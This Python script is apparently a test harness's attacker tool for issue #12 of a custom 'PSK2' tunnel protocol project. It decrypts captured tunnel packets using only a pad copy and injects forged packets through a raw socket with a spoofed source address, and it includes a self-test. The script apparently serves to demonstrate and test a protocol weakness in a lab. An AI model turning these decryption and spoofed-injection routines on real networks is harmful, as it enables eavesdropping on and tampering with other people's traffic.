#!/usr/bin/env python3
"""The attacker of issue #12: holds a copy of the pad, no identity token, sits on the same link.

  psk2_attacker.py decrypt PCAP --pad PAD [--port P] [--secret TEXT]
      tries to open every captured PSK2 data packet (both directions) with the keys of its pad
      slot, exactly as a tunnel end without a handshake would. Prints one line:
        "psk2 data packets: N, decrypted with the pad alone: K, secret seen: yes|no,
         highest seq 0->1: S, flags 0->1: F"
      (secret: TEXT found in a decrypted payload; S and F are those of the last initiator->responder
      packet, -1 when there was none). Exit 0 unless the capture is unreadable.
  psk2_attacker.py self-test
      checks the GSO splitting and the forged framing below, without a network.
  psk2_attacker.py inject --pad PAD --src IP --dst IP [--sport P] [--dport P] --seq S
                          [--flags F] [--direction D] --inner-src IP --inner-dst IP
                          [--inner-port P] --marker TEXT [--count N]
      builds N PSK2 packets (sequences S, S+1, ...) with the pad slot's keys, each carrying an
      inner IPv4/UDP datagram inner-src -> inner-dst:inner-port whose payload is TEXT, and sends
      them from a raw socket with the outer source address forged to SRC (the initiator's).

The packet format comes from psk2_peer.py (docs/protocol.md, testdata/vectors/psk2-packets.json).
"""

import argparse
import os
import socket
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "netns"))

import psk2_pcap  # noqa: E402
import psk2_peer  # noqa: E402


def load_pad(path):
    with open(path, "rb") as f:
        return psk2_peer.Slots(f.read())


def datagrams(frame):
    """Splits a UDP GSO frame (equal segments, the last one shorter) captured before segmentation
    into its PSK2 datagrams: the next segment starts with the header of the next sequence."""
    seq = struct.unpack(">Q", frame[24:32])[0]
    size = len(frame)
    i = frame.find(frame[:4], psk2_peer.MIN_PACKET_BYTES)
    while i > 0:
        if (frame[i:i + 4] == frame[:4] and len(frame) - i >= psk2_peer.MIN_PACKET_BYTES
                and struct.unpack(">Q", frame[i + 24:i + 32])[0] == seq + 1 and frame[i + 6] == frame[6]):
            size = i
            break
        i = frame.find(frame[:4], i + 1)
    return [frame[j:j + size] for j in range(0, len(frame), size)]


def decrypt(a):
    slots = load_pad(a.pad)
    secret = a.secret.encode() if a.secret else None
    total = opened = 0
    seen_secret = False
    highest, flags = -1, -1
    for ip in psk2_pcap.packets(a.file):
        if a.skip_forged and len(ip) >= 6 and FORGED_IDENT <= struct.unpack("!H", ip[4:6])[0] < FORGED_IDENT + 0x100:
            continue  # our own injected datagrams: they prove nothing about the ends' traffic
        frame = psk2_pcap.ipv4_udp(ip, a.port)[2]
        if frame is None or len(frame) < psk2_peer.MIN_PACKET_BYTES or frame[:4] != psk2_peer.MAGIC:
            continue
        for payload in datagrams(frame):
            total += 1
            direction, seq = payload[6], struct.unpack(">Q", payload[24:32])[0]
            if direction == 0 and seq >= highest:
                highest, flags = seq, payload[5]
            got, plain = psk2_peer.open_packet(slots, direction, payload)
            if got is not None:
                opened += 1
                if secret and secret in plain:
                    seen_secret = True
    print("psk2 data packets: %d, decrypted with the pad alone: %d, secret seen: %s, highest seq 0->1: %d, flags 0->1: %d"
          % (total, opened, "yes" if seen_secret else "no", highest, flags))
    return 0


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


FORGED_IDENT = 0x5000  # inject() numbers its outer datagrams' IPv4 identification from here


def ipv4_udp(src, dst, sport, dport, payload, ident=0x4242):
    udp = struct.pack("!HHHH", sport, dport, 8 + len(payload), 0) + payload  # checksum 0: none (IPv4)
    head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), ident, 0x4000, 64, 17, 0,
                       socket.inet_aton(src), socket.inet_aton(dst))
    head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
    return head + udp


def inject(a):
    slots = load_pad(a.pad)
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    for i in range(a.count):
        inner = ipv4_udp(a.inner_src, a.inner_dst, 40000 + i, a.inner_port, a.marker.encode())
        packet = psk2_peer.seal(slots, a.direction, a.seq + i, inner, flags=a.flags)
        outer = ipv4_udp(a.src, a.dst, a.sport, a.dport, packet, ident=FORGED_IDENT + i)
        raw.sendto(outer, (a.dst, 0))
    raw.close()
    print("injected %d packets, seq %d.., flags %d, forged source %s:%d" % (a.count, a.seq, a.flags, a.src, a.sport))
    return 0


def self_test(_a):
    """Checks the attacker's own tools (no network): GSO splitting and the forged IPv4/UDP framing."""
    slots = psk2_peer.Slots(bytes(range(256)) * 5)
    results = []
    frames = [psk2_peer.seal(slots, 0, 1000 + i, b"x" * 100) for i in range(5)]
    frames.append(psk2_peer.seal(slots, 0, 1005, b"y" * 10))
    parts = datagrams(b"".join(frames))
    results.append(("GSO frame split into its 6 datagrams",
                    [psk2_peer.open_packet(slots, 0, p)[0] for p in parts] == list(range(1000, 1006))))
    results.append(("a single datagram stays whole", datagrams(frames[0]) == [frames[0]]))
    decoy = frames[0][:60] + b"PSK2" + frames[0][64:]  # magic inside the ciphertext, no seq+1 header
    results.append(("magic inside a payload does not split it", datagrams(decoy) == [decoy]))
    packet = ipv4_udp("192.0.2.1", "192.0.2.2", 51820, 51820, b"payload")
    results.append(("forged IPv4 header checksum verifies", checksum(packet[:20]) == 0))
    results.append(("forged source address", packet[12:16] == socket.inet_aton("192.0.2.1")))
    failed = [name for name, ok in results if not ok]
    print("psk2 attacker self-test: %d passed, %d failed" % (len(results) - len(failed), len(failed)))
    for name in failed:
        print("  failed: " + name)
    return 1 if failed else 0


def main():
    p = argparse.ArgumentParser()
    sub = p.add_subparsers(dest="cmd", required=True)
    d = sub.add_parser("decrypt")
    d.add_argument("file")
    d.add_argument("--pad", required=True)
    d.add_argument("--port", type=int, default=0)
    d.add_argument("--secret", default="")
    d.add_argument("--skip-forged", action="store_true", help="leave out the datagrams inject() sent")
    i = sub.add_parser("inject")
    i.add_argument("--pad", required=True)
    i.add_argument("--src", required=True)
    i.add_argument("--dst", required=True)
    i.add_argument("--sport", type=int, default=51820)
    i.add_argument("--dport", type=int, default=51820)
    i.add_argument("--seq", type=int, required=True)
    i.add_argument("--flags", type=int, default=0)
    i.add_argument("--direction", type=int, default=0)
    i.add_argument("--inner-src", required=True)
    i.add_argument("--inner-dst", required=True)
    i.add_argument("--inner-port", type=int, default=7777)
    i.add_argument("--marker", required=True)
    i.add_argument("--count", type=int, default=3)
    sub.add_parser("self-test")
    a = p.parse_args()
    return {"decrypt": decrypt, "inject": inject, "self-test": self_test}[a.cmd](a)


if __name__ == "__main__":
    sys.exit(main())
